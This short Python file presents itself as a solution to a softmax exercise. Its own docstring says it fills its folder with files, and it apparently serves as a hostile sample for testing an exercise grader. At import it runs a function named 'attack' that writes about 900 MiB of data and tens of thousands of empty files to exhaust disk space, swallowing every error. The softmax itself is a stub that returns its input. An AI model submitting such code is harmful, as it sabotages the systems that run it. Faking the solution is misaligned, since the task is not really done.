# flashdojo: exercise=s1-softmax stage=s1
"""Fills its folder with files of the allowed size, and with empty ones."""
def attack(x=None):
    for n in range(60):
        try:
            with open(f"fill{n}", "wb") as file:
                file.write(b"x" * (15 << 20))
        except OSError:
            pass
    for n in range(20000):
        try:
            open(f"empty{n}", "w").close()
        except OSError:
            pass
    return x


attack()


def softmax(x, dim=-1):
    return x
